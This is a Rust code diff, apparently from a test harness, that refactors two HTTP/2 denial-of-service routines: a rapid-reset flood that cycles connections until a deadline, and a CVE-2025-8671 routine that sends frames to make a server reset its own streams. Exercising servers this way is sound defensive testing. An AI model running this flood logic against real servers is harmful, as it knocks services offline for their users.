@@ -13,10 +13,14 @@ pub(super) async fn rapid_reset(by: Attacker, end: Instant) -> String {
     let refused = call(ECHO, &[]);
     let served = call(WAIT, &[("authorization", &bearer)]);
     let (mut resets, mut ends) = (0, 0);
-    for block in [&refused, &served].into_iter().cycle() {
-        if Instant::now() >= end {
-            break;
-        }
+    let mut connections = 0;
+    while Instant::now() < end {
+        connections += 1;
+        let block = if connections % 2 == 0 {
+            &served
+        } else {
+            &refused
+        };
         let mut raw = by.connect().await;
         for batch in 0..BATCHES {
             let mut bytes = BytesMut::new();
@@ -33,7 +37,7 @@ pub(super) async fn rapid_reset(by: Attacker, end: Instant) -> String {
             }
         }
     }
-    format!("{resets} resets, {ends} connections ended")
+    format!("{resets} resets over {connections} connections, of which {ends} ended")
 }
 
 /// CVE-2025-8671: what makes the server reset streams itself.
@@ -46,8 +50,8 @@ pub(super) async fn provoked_resets(by: Attacker, end: Instant) -> String {
         for number in 0..1000_u32 {
             let stream = 2 * number + 1;
             let mut bytes = BytesMut::new();
-            let ends = if number % 3 == 1 { flag::END_STREAM } else { 0 };
-            let flags = flag::END_HEADERS | ends;
+            let last = if number % 3 == 1 { flag::END_STREAM } else { 0 };
+            let flags = flag::END_HEADERS | last;
             bytes.extend(frame(kind::HEADERS, flags, stream, &block));
             bytes.extend(match number % 3 {
                 0 => frame(kind::WINDOW_UPDATE, 0, stream, &0_u32.to_be_bytes()),
